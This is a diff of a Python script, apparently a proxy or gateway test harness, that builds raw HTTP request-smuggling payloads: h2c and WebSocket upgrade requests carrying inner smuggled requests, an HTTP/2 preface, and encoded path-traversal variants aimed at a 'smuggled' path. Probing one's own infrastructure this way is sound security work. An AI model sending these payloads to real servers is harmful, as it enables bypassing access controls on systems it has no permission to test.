@@ -80,10 +80,13 @@ raw("h2c_list", f"{HEAD.replace('POST', 'GET')}Connection: Upgrade\r\nUpgrade: w
 raw("h2c_no_connection", f"{HEAD.replace('POST', 'GET')}Upgrade: h2c{END}{INNER}")
 raw("tls_upgrade", f"{HEAD.replace('POST', 'GET')}Connection: Upgrade\r\nUpgrade: TLS/1.3{END}{INNER}")
 raw("preface", f"PRI * HTTP/2.0{END}SM{END}{INNER}")
-raw("socket_by_post", f"POST SMUGGLED HTTP/1.1\r\nHost: {API}\r\nAUTH\r\nConnection: Upgrade\r\nUpgrade: websocket{END}")
-raw("socket_as_post", f"{HEAD}Connection: Upgrade\r\nUpgrade: websocket{END}{INNER}")
-raw("socket_with_body", f"{HEAD.replace('POST', 'GET')}Connection: Upgrade\r\nUpgrade: websocket\r\nContent-Length: 90{END}{INNER}")
-raw("socket_early", f"{HEAD.replace('POST', 'GET')}Connection: Upgrade\r\nUpgrade: websocket{END}{INNER}")
+SOCKET = "Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA=="
+GET = HEAD.replace("POST", "GET")
+raw("socket_by_post", f"POST SMUGGLED HTTP/1.1\r\nHost: {API}\r\nAUTH\r\n{SOCKET}{END}")
+raw("socket_as_post", f"{HEAD}{SOCKET}{END}{INNER}")
+raw("socket_with_body", f"{GET}{SOCKET}\r\nContent-Length: 90{END}{INNER}")
+raw("socket_not_named", f"{GET}{SOCKET.replace('Connection: Upgrade', 'Connection: keep-alive')}{END}{INNER}")
+raw("socket_early", f"{GET}{SOCKET}{END}{INNER}")
 
 PATHS = """/open/../smuggled/X /open/%2e%2e/smuggled/X /open/.%2e/smuggled/X /open/..;/smuggled/X
 /open/..%2fsmuggled/X /open/%2e%2e%2fsmuggled/X /open/..%5csmuggled/X /open/..\\smuggled/X
